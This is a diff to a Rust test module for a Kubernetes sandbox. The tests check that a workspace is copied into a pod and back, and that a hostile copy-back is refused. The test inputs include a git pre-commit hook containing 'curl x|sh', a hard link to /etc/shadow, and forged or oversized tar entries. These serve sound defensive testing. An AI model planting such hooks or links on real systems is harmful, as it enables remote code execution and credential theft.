@@ -1,9 +1,12 @@
 //! A controlled run's whole lifecycle, `gc` and `doctor` against the fake API server
 //! (`fake.rs`): what is created in which order and owned by what, that removal follows every
-//! ending, the log's reconnects and de-duplication, and the messages of refusals.
+//! ending, the log's reconnects and de-duplication, the workspace's copy in and back (through
+//! the fake's streams: the websocket upgrade of `attach`/`exec` cannot be mocked), and the
+//! messages of refusals.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::sync::Mutex;
+use std::path::Path;
+use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
 use serde_json::json;
@@ -23,9 +26,12 @@ use crate::sandbox::plan::{PrebuiltImage, RunPlan, plan};
 
 const RUN: &str = "psb-run1";
 
-/// The test config's plan as `run --image` makes it: every image a pushed version.
-fn pinned_plan() -> RunPlan {
-    let mut plan = plan(&request()).expect("plan");
+/// The test config's plan as `run --image` makes it: every image a pushed version, the
+/// workspace `workspace`.
+fn pinned_plan(workspace: &Path) -> RunPlan {
+    let mut request = request();
+    request.workspace = workspace.to_path_buf();
+    let mut plan = plan(&request).expect("plan");
     plan.prebuilt = Some(
         (0..plan.images.len())
             .map(|i| PrebuiltImage {
@@ -45,12 +51,13 @@ fn ids() -> RunIds {
     }
 }
 
-fn backend(api: super::client::KubeApi) -> KubernetesBackend {
+fn backend(api: super::client::KubeApi, fake: &FakeCluster) -> KubernetesBackend {
     KubernetesBackend {
         api,
+        streams: Arc::new(fake.clone()),
         holder: "host:42".into(),
         lease_seconds: 15,
-        workspace_size: "1Gi".into(),
+        workspace_bytes: 1 << 20,
         pacing: Pacing {
             poll: Duration::from_millis(1),
             max_reconnects: 3,
@@ -78,14 +85,48 @@ struct Drive {
     recorded: Vec<String>,
     removal: Result<(), BackendError>,
     fake: FakeCluster,
+    /// The workspace on this machine.
+    workspace: tempfile::TempDir,
+}
+
+/// A workspace with a note, a file the run removes, git's folder and the run data.
+fn workspace() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let put = |rel: &str, text: &str| {
+        let path = dir.path().join(rel);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(path, text).expect("write");
+    };
+    put("notes.md", "before");
+    put("old.txt", "old");
+    put(".git/HEAD", "ref: refs/heads/main");
+    put("perstack/jobs/j/job.json", "{}");
+    dir
+}
+
+/// Reads `rel` of `root`; `None` when it is missing.
+fn read(root: &Path, rel: &str) -> Option<String> {
+    std::fs::read_to_string(root.join(rel)).ok()
 }
 
 /// Runs the pinned plan on a fake cluster as the controller does: `execute` under the time
 /// limit, dropped on Ctrl-C (`ctrl_c_after`), then `remove_run` whatever happened.
 async fn drive(script: Script, limit: Duration, ctrl_c_after: Option<Duration>) -> Drive {
+    drive_with(script, limit, ctrl_c_after, 1 << 20).await
+}
+
+/// [`drive`] with a workspace size limit of `workspace_bytes`.
+async fn drive_with(
+    script: Script,
+    limit: Duration,
+    ctrl_c_after: Option<Duration>,
+    workspace_bytes: u64,
+) -> Drive {
     let (api, fake) = FakeCluster::start(script);
-    let backend = backend(api);
-    let plan = pinned_plan();
+    let mut backend = backend(api, &fake);
+    backend.workspace_bytes = workspace_bytes;
+    let workspace = workspace();
+    let plan = pinned_plan(workspace.path());
     let ids = ids();
     let (output, _writer) = Output::spawn(Mode::Json, tokio::io::sink());
     let recorded = Mutex::new(Vec::new());
@@ -111,6 +152,7 @@ async fn drive(script: Script, limit: Duration, ctrl_c_after: Option<Duration>) 
         recorded,
         removal,
         fake,
+        workspace,
     }
 }
 
@@ -217,8 +259,10 @@ async fn an_out_of_memory_runtime_is_reported_as_such() {
 #[tokio::test]
 async fn every_object_a_run_creates_is_owned_by_its_lease_and_its_secret_holds_this_runs_values() {
     let (api, fake) = FakeCluster::start(Script::default());
-    let backend = backend(api.clone());
-    let objects = backend.objects(&pinned_plan(), &ids()).expect("objects");
+    let backend = backend(api.clone(), &fake);
+    let objects = backend
+        .objects(&pinned_plan(Path::new("/ws")), &ids(), None, 60)
+        .expect("objects");
     let lease = session::launch(&api, &objects).await.expect("launch");
     let uid = lease["metadata"]["uid"].clone();
     assert_eq!(lease["spec"]["holderIdentity"], "host:42");
@@ -268,20 +312,20 @@ async fn every_object_a_run_creates_is_owned_by_its_lease_and_its_secret_holds_t
 
 #[test]
 fn a_plan_without_pushed_images_or_with_a_checkpoint_to_feed_is_refused_with_what_to_do() {
-    let (api, _) = tokio::runtime::Runtime::new()
+    let (api, fake) = tokio::runtime::Runtime::new()
         .expect("runtime")
         .block_on(async { FakeCluster::start(Script::default()) });
-    let backend = backend(api);
+    let backend = backend(api, &fake);
     let unpinned = plan(&request()).expect("plan");
     let message = backend
-        .objects(&unpinned, &ids())
+        .objects(&unpinned, &ids(), None, 60)
         .expect_err("refused")
         .to_string();
     assert!(message.contains("needs --image REF"), "{message}");
-    let mut continued = pinned_plan();
+    let mut continued = pinned_plan(Path::new("/ws"));
     continued.runtime.stdin = Some("{}".into());
     let message = backend
-        .objects(&continued, &ids())
+        .objects(&continued, &ids(), None, 60)
         .expect_err("refused")
         .to_string();
     assert!(message.contains("continuing a job"), "{message}");
@@ -601,4 +645,292 @@ async fn doctor_reads_the_namespaces_pod_security_level_and_says_when_it_cannot(
     assert!(
         matches!(doctor::pod_security(&api).await, Finding::Unknown(m) if m.contains("may not read namespace ci-agents"))
     );
+}
+
+/// Where `prefix` is first (or, `last`, last) among the fake's calls.
+fn call_index(fake: &FakeCluster, prefix: &str, last: bool) -> usize {
+    let calls = fake.calls();
+    let mut found = calls
+        .iter()
+        .enumerate()
+        .filter(|(_, c)| c.starts_with(prefix));
+    let found = if last {
+        found.next_back()
+    } else {
+        found.next()
+    };
+    found
+        .unwrap_or_else(|| panic!("no {prefix} in {calls:#?}"))
+        .0
+}
+
+/// The run's changes in the pod: a note edited, a file made, one removed, and a write to git's
+/// folder (read-only for base-skill in a real pod; here to show it never comes back).
+fn run_changes(pod: &Path) {
+    std::fs::write(pod.join("notes.md"), "after").expect("write");
+    std::fs::create_dir_all(pod.join("made")).expect("mkdir");
+    std::fs::write(pod.join("made/new.txt"), "new").expect("write");
+    std::fs::remove_file(pod.join("old.txt")).expect("remove");
+    std::fs::write(pod.join(".git/HEAD"), "ref: refs/heads/evil").expect("write");
+}
+
+#[tokio::test]
+async fn the_workspace_goes_in_before_the_runtime_starts_and_comes_back_after_its_end_before_removal()
+ {
+    let script = Script {
+        log_chunks: vec![vec![at(1, &event("e1"))]],
+        run_changes: Some(run_changes),
+        ..Script::default()
+    };
+    let d = drive(script, Duration::from_secs(10), None).await;
+    d.result.expect("not interrupted").expect("ran");
+    // In: attached once the Job exists, before the runtime's log is read; the runtime waited.
+    let attach = call_index(&d.fake, "ATTACH pods/psb-run1-pod/workspace-in", false);
+    assert!(call_index(&d.fake, "POST jobs", false) < attach);
+    assert!(attach < call_index(&d.fake, "GET pods/log", false));
+    // Back: from base-skill, after the runtime's last log read, before anything is deleted.
+    let exec = call_index(
+        &d.fake,
+        "EXEC pods/psb-run1-pod/base-skill-main workspace-out",
+        false,
+    );
+    assert!(call_index(&d.fake, "GET pods/log", true) < exec);
+    assert!(exec < call_index(&d.fake, "DELETE ", false));
+    // What the pod got: the workspace as base-skill sees it on Docker, less the run data.
+    let pod = d.fake.pod_workspace().expect("the workspace went in");
+    assert_eq!(
+        read(&pod, ".git/HEAD").as_deref(),
+        Some("ref: refs/heads/evil")
+    );
+    assert!(!pod.join("perstack").exists(), "the run data never goes in");
+    // What came back: the run's changes, and nothing of git's folder or the run data.
+    let host = d.workspace.path();
+    assert_eq!(read(host, "notes.md").as_deref(), Some("after"));
+    assert_eq!(read(host, "made/new.txt").as_deref(), Some("new"));
+    assert_eq!(
+        read(host, "old.txt"),
+        None,
+        "removed in the pod, removed here"
+    );
+    assert_eq!(
+        read(host, ".git/HEAD").as_deref(),
+        Some("ref: refs/heads/main")
+    );
+    assert_eq!(
+        read(host, "perstack/jobs/j/job.json").as_deref(),
+        Some("{}")
+    );
+    assert_eq!(d.fake.existing(), Vec::<String>::new());
+}
+
+#[tokio::test]
+async fn the_run_pod_has_the_copy_containers_hardened_the_copy_in_first_and_the_hold_last() {
+    let (api, fake) = FakeCluster::start(Script::default());
+    let backend = backend(api, &fake);
+    let workspace = workspace();
+    let plan = pinned_plan(workspace.path());
+    let copy = super::workspace::WorkspaceCopy::prepare(&plan, backend.caps(), |s| {
+        super::manifest::container_name(&plan, s)
+    })
+    .expect("prepared")
+    .expect("base-skill mounts the workspace");
+    let objects = backend
+        .objects(&plan, &ids(), Some(&copy), 4242)
+        .expect("objects");
+    let job = objects.owned.last().expect("job");
+    let pod = &job["spec"]["template"]["spec"];
+    let copy_in = &pod["initContainers"][0];
+    assert_eq!(copy_in["name"], "workspace-in");
+    assert_eq!(copy_in["stdin"], true);
+    assert_eq!(copy_in["stdinOnce"], true);
+    assert_eq!(
+        copy_in["command"],
+        json!([
+            "/usr/local/bin/perstack-sandbox",
+            "workspace-in",
+            "--workspace",
+            "/workspace",
+            "--max-bytes",
+            "1048576",
+            "--max-entries",
+            "500000"
+        ])
+    );
+    let hold = pod["containers"]
+        .as_array()
+        .expect("containers")
+        .last()
+        .expect("hold");
+    assert_eq!(hold["name"], "workspace-hold");
+    assert_eq!(
+        hold["command"],
+        json!([
+            "/usr/local/bin/perstack-sandbox",
+            "workspace-hold",
+            "--seconds",
+            "4242"
+        ])
+    );
+    assert!(hold["volumeMounts"].to_string().contains("/tmp"));
+    assert!(!hold["volumeMounts"].to_string().contains("/workspace"));
+    let base_skill = &pod["initContainers"][1];
+    // The plan's first base-skill (each Expert has one; they share the workspace).
+    assert_eq!(base_skill["name"], "base-skill-main");
+    for container in [copy_in, hold] {
+        assert_eq!(container["image"], base_skill["image"]);
+        assert_eq!(container["securityContext"], base_skill["securityContext"]);
+        assert!(container.get("args").is_none(), "{container}");
+    }
+    assert_eq!(
+        pod["volumes"][0],
+        json!({"name": "workspace", "emptyDir": {"sizeLimit": "1048576"}})
+    );
+    assert_eq!(
+        copy.copy_out_command(),
+        [
+            "/usr/local/bin/perstack-sandbox",
+            "workspace-out",
+            "--workspace",
+            "/workspace",
+            "--protected",
+            "git:.git",
+            "--protected",
+            "run-data:perstack"
+        ]
+    );
+}
+
+/// A tar of `entries` (path, contents), written by `tar::Builder` (which refuses `..` and
+/// absolute paths; `files::archive`'s tests cover those with raw headers).
+fn tar_of(entries: &[(&str, &str)], hard_link: Option<(&str, &str)>) -> Vec<u8> {
+    let mut builder = tar::Builder::new(Vec::new());
+    for (path, text) in entries {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(text.len() as u64);
+        header.set_mode(0o644);
+        builder
+            .append_data(&mut header, path, text.as_bytes())
+            .expect("append");
+    }
+    if let Some((path, target)) = hard_link {
+        let mut header = tar::Header::new_gnu();
+        header.set_entry_type(tar::EntryType::Link);
+        header.set_size(0);
+        builder
+            .append_link(&mut header, path, target)
+            .expect("link");
+    }
+    builder.into_inner().expect("tar")
+}
+
+#[tokio::test]
+async fn a_hostile_copy_back_is_refused_whole_changes_nothing_here_and_the_run_is_removed() {
+    let cases = [
+        (
+            tar_of(
+                &[("notes.md", "evil"), (".git/hooks/pre-commit", "curl x|sh")],
+                None,
+            ),
+            "the workspace archive's entry .git/hooks/pre-commit is refused: it is a protected path",
+        ),
+        (
+            tar_of(
+                &[("notes.md", "evil"), ("PerStack/jobs/j/job.json", "forged")],
+                None,
+            ),
+            "the workspace archive's entry PerStack/jobs/j/job.json is refused: it is in the reserved run-data folder",
+        ),
+        (
+            tar_of(&[("notes.md", "evil")], Some(("shadow", "/etc/shadow"))),
+            "the workspace archive's entry shadow is refused: a hard link",
+        ),
+        (
+            tar_of(&[("notes.md", "evil"), ("big", &"x".repeat(2 << 20))], None),
+            "more than 1048576 bytes",
+        ),
+    ];
+    for (tar, why) in cases {
+        let script = Script {
+            log_chunks: vec![vec![at(1, &event("e1"))]],
+            copy_back: Some(tar),
+            ..Script::default()
+        };
+        let d = drive(script, Duration::from_secs(10), None).await;
+        let message = d
+            .result
+            .expect("not interrupted")
+            .expect_err("refused")
+            .to_string();
+        assert!(
+            message.starts_with("the workspace was not copied back from pod psb-run1-pod: "),
+            "{message}"
+        );
+        assert!(message.contains(why), "{message}");
+        let host = d.workspace.path();
+        assert_eq!(read(host, "notes.md").as_deref(), Some("before"), "{why}");
+        assert_eq!(read(host, "old.txt").as_deref(), Some("old"), "{why}");
+        assert!(!host.join(".git/hooks").exists());
+        assert_eq!(
+            read(host, "perstack/jobs/j/job.json").as_deref(),
+            Some("{}")
+        );
+        // The events came all the same, and the run is gone.
+        assert_eq!(d.recorded, [event("e1")]);
+        assert!(call_index(&d.fake, "EXEC ", false) < call_index(&d.fake, "DELETE ", false));
+        assert_eq!(d.fake.existing(), Vec::<String>::new(), "{why}");
+        assert!(d.removal.is_ok());
+    }
+}
+
+#[tokio::test]
+async fn a_workspace_bigger_than_the_pods_is_refused_before_anything_is_created() {
+    let d = drive_with(Script::default(), Duration::from_secs(10), None, 10).await;
+    let message = d
+        .result
+        .expect("not interrupted")
+        .expect_err("refused")
+        .to_string();
+    let workspace = d.workspace.path().canonicalize().expect("real");
+    assert!(
+        message.starts_with(&format!(
+            "the workspace {} holds 29 bytes in 4 entries; a Kubernetes run's workspace (an emptyDir) takes at most 10 bytes and 500000 entries",
+            workspace.display()
+        )),
+        "{message}"
+    );
+    assert!(
+        message.contains("nothing was created in the cluster"),
+        "{message}"
+    );
+    assert!(
+        !d.fake.calls().iter().any(|c| c.starts_with("POST ")),
+        "{:?}",
+        d.fake.calls()
+    );
+}
+
+#[tokio::test]
+async fn ctrl_c_while_the_workspace_goes_in_leaves_nothing_and_brings_nothing_back() {
+    // The runtime never starts: the log hangs, so Ctrl-C comes while the run is watched, after
+    // the copy in; nothing is exec'd and the host's workspace is as it was.
+    let script = Script {
+        log_chunks: vec![vec![at(1, "a")]],
+        hang_logs: true,
+        run_changes: Some(run_changes),
+        ..Script::default()
+    };
+    let d = drive(
+        script,
+        Duration::from_secs(30),
+        Some(Duration::from_millis(300)),
+    )
+    .await;
+    assert!(d.result.is_none(), "interrupted");
+    assert!(d.fake.calls().iter().any(|c| c.starts_with("ATTACH ")));
+    assert!(!d.fake.calls().iter().any(|c| c.starts_with("EXEC ")));
+    assert_eq!(
+        read(d.workspace.path(), "notes.md").as_deref(),
+        Some("before")
+    );
+    assert_eq!(d.fake.existing(), Vec::<String>::new());
 }
